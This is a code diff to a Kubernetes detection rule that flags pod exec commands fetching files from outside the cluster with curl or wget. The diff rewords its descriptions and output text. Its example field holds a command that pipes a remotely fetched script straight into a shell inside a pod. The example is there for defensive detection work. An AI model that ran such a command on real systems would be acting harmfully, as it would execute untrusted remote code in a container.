@@ -10,8 +10,8 @@ const SHOWN = { severity: 'medium', confidence: 0.4 } as const;
 export const execDownload = callRule({
   id: 'exec-download',
   title: 'Download into a pod',
-  sees: 'An exec whose command fetches something with curl or wget from outside of the cluster and keeps or runs it (high), or shows it (medium, 0.40). Addresses of the own host, of Services and of private networks are none, nor are pages about health or keys that are only shown.',
-  why: 'An image has what its program needs: tools that come later are those of somebody else.',
+  sees: 'An exec whose command fetches something with curl or wget from outside of the cluster and keeps or runs it (high), or only prints it (medium 0.40). Addresses of the host itself, of Services and of private networks do not count, nor do health or key pages that are only printed.',
+  why: 'An image already contains what its program needs. Tools downloaded later usually belong to somebody else.',
   technique: [
     { id: 'T1105', name: 'Ingress Tool Transfer' },
     { id: 'T1609', name: 'Container Administration Command' },
@@ -19,7 +19,7 @@ export const execDownload = callRule({
   severity: 'high',
   confidence: 0.65,
   family: 'exec',
-  falsePositives: ['Fetching of a debugging tool by an operator', 'Tests of the way out of a cluster'],
+  falsePositives: ['Debugging tools fetched by an operator', 'Tests of egress from a cluster'],
   calls: EXECS,
   example: "kubectl exec -n shop cart-7d9f -- sh -c 'curl -s http://203.0.113.9/x.sh | sh'",
   match: (signal) => {
@@ -27,7 +27,7 @@ export const execDownload = callRule({
     const download = line === undefined ? undefined : downloadIn(line);
     if (download === undefined) return undefined;
     const { host, kept } = download;
-    const does = kept ? 'fetches something to keep or run' : 'shows something';
+    const does = kept ? 'fetches something to keep or run' : 'fetches and prints something';
     return seenInCommand(signal, () => `${does} from ${quote(host, 253)}`, kept ? {} : SHOWN);
   },
 });
